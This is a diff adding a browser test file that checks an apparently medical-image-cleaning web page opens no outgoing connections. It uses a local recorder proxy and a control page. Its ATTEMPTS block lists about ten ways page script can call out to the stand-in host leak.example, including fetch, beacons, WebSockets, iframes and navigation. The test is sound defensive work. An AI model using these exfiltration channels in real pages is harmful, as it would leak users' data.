@@ -1,0 +1,71 @@
+// Nothing leaves: every connection that the browser opens during a whole job goes to a recorder, which must stay empty.
+// A control page without the policy shows that the recorder would have seen it.
+import assert from 'node:assert/strict';
+import { createServer } from 'node:net';
+import { after, before, describe, test } from 'node:test';
+import { address, deliverZip, folder, filesIn, launch, open, paint } from './page.mjs';
+import { ultrasound } from './dicom.mjs';
+
+/** A proxy that answers nothing and counts what knocks. */
+function recorder() {
+  const knocks = [];
+  const server = createServer((socket) => {
+    socket.once('data', (bytes) => knocks.push(bytes.toString('latin1').split('\r\n')[0]));
+    socket.on('error', () => {});
+    setTimeout(() => socket.destroy(), 200);
+  });
+  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ knocks, port: server.address().port, close: () => server.close() })));
+}
+
+const ATTEMPTS = `
+  const go = (f) => { try { f(); } catch {} };
+  go(() => fetch('http://leak.example/fetch').catch(() => {}));
+  go(() => { new Image().src = 'http://leak.example/image'; });
+  go(() => navigator.sendBeacon('http://leak.example/beacon', 'x'));
+  go(() => new WebSocket('ws://leak.example/socket'));
+  go(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://leak.example/xhr'); x.send(); });
+  go(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://leak.example/css'; document.head.append(l); });
+  go(() => { const s = document.createElement('iframe'); s.src = 'http://leak.example/frame'; document.body.append(s); });
+  go(() => { const a = document.createElement('a'); a.href = 'http://leak.example/link'; document.body.append(a); a.click(); });
+  go(() => { location.href = 'http://leak.example/location'; });
+  go(() => { window.open('http://leak.example/open'); });
+`;
+
+describe('nothing leaves the page', () => {
+  let record, browser, site, files;
+  before(async () => {
+    record = await recorder();
+    browser = await launch({ args: [`--proxy-server=http://127.0.0.1:${record.port}`] });
+    site = await address('file');
+    files = folder({ 'us.dcm': ultrasound(1) });
+  });
+  after(async () => { await browser.close(); record.close(); files.remove(); });
+
+  test('the recorder sees a page that has no policy', async () => {
+    const page = await (await browser.newContext()).newPage();
+    await page.goto('data:text/html,<body></body>');
+    await page.evaluate(`setTimeout(() => { ${ATTEMPTS} }, 0)`);
+    await page.waitForTimeout(1500);
+    assert.ok(record.knocks.some((line) => line.includes('leak.example')), 'the control page did not leak');
+    await page.close();
+    record.knocks.length = 0;
+  });
+
+  test('a whole job opens no connection, and neither do attempts from within the page', async () => {
+    const { page, close } = await open(browser, site.url);
+    await page.getByTestId('intake-folder').setInputFiles(files.path);
+    await filesIn(page, 1);
+    await page.getByTestId('series').click();
+    await page.waitForFunction(() => document.querySelector('[data-testid=viewer]')?.dataset.columns === '80');
+    await paint(page, [2, 2, 20, 10]);
+    await deliverZip(page);
+    await page.locator('[data-testid=summary][data-cleaned="1"]').waitFor();
+    assert.deepEqual(record.knocks, []);
+    // A job's own code runs from timers and events: so must the attempts, for evaluated code is exempt from the policy.
+    await page.evaluate(`setTimeout(() => { ${ATTEMPTS} }, 0)`);
+    await page.waitForTimeout(1500);
+    assert.deepEqual(record.knocks, []);
+    assert.ok(page.url().startsWith('file:'), 'the page was navigated away');
+    await close();
+  });
+});
